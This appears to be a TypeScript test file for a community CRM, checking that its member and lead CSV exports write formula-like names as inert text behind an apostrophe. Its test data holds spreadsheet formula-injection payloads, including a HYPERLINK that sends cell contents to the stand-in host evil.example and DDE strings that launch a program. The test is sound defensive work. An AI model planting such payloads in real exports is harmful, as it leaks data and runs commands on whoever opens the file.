/**
 * CRM exports open in spreadsheets. A member's name or username that starts like a formula
 * (=, +, -, @, a tab or a carriage return) must arrive as text, not run as a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Visitor } from '../../support/browser-session.js';
import { act, discord } from '../../support/builders.js';
import { testSite, type TestSite } from '../../support/web.js';

const PASSWORD = 'correct horse battery staple';
const NAMES = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1'];

let site: TestSite;
let admin: Visitor;

beforeAll(async () => {
  site = await testSite({ ADMIN_PASSWORD: PASSWORD });
  const now = site.fw.clock.now;
  // Enough points this month for everyone to be a lead (affinity 60 ≥ 50).
  await site.fw.ingest(NAMES.map((name, i) => act('manual_award', discord(String(700 + i), { displayName: name, username: name }), now - 3600_000, { points: 60, reason: 'test' })));
  admin = new Visitor(site.app);
  await admin.signInWithPassword(PASSWORD);
});
afterAll(() => site.close());

/** RFC 4180: cells in double quotes may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('CRM exports', () => {
  for (const file of ['members.csv', 'leads.csv']) {
    it(`${file} writes names that look like formulas as text`, async () => {
      const res = await admin.get(`/admin/export/${file}?include=everyone`, 'text/csv');
      expect(res.statusCode).toBe(200);
      const [header, ...rows] = parseCsv(res.body);
      const column = (name: string) => rows.map((r) => r[header!.indexOf(name)]);
      // Each name is there, whole, behind an apostrophe: a spreadsheet shows it and runs nothing.
      expect(column('display_name')).toEqual(NAMES.map((n) => `'${n}`));
      expect(column('discord_username').sort()).toEqual(NAMES.map((n) => `'${n}`).sort());
      for (const cell of rows.flat()) expect([cell, /^[=+@\t\r＝＋＠]/.test(cell) || /^-\D/.test(cell)]).toEqual([cell, false]);
    });
  }
});
